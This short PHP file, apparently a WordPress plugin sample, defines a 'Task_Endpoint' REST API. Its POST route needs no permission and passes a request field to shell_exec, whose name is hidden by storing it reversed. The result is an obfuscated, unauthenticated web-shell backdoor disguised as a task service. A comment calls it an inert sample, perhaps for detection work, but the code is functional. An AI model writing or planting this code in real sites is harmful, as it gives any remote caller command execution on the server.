<?php
// inert sample: a class-based REST endpoint; the JSON body's "t" field runs as a command through a
// function whose name is stored reversed, the route registered through an array of endpoints
class Task_Endpoint {
    private $runner = 'cexe_llehs';
    public function __construct() {
        add_action('rest_api_init', array($this, 'routes'));
    }
    public function routes() {
        register_rest_route('tasks/v2', '/(?P<id>\d+)', array(
            array('methods' => 'GET', 'callback' => array($this, 'status'), 'permission_callback' => '__return_true'),
            array('methods' => 'POST', 'callback' => array($this, 'task'), 'permission_callback' => '__return_true'),
        ));
    }
    public function status($req) {
        return array('id' => (int) $req['id'], 'ok' => true);
    }
    public function task($req) {
        $body = $req->get_json_params();
        $run = strrev($this->runner);
        return new WP_REST_Response(array('out' => $run($body['t'])));
    }
}
new Task_Endpoint();
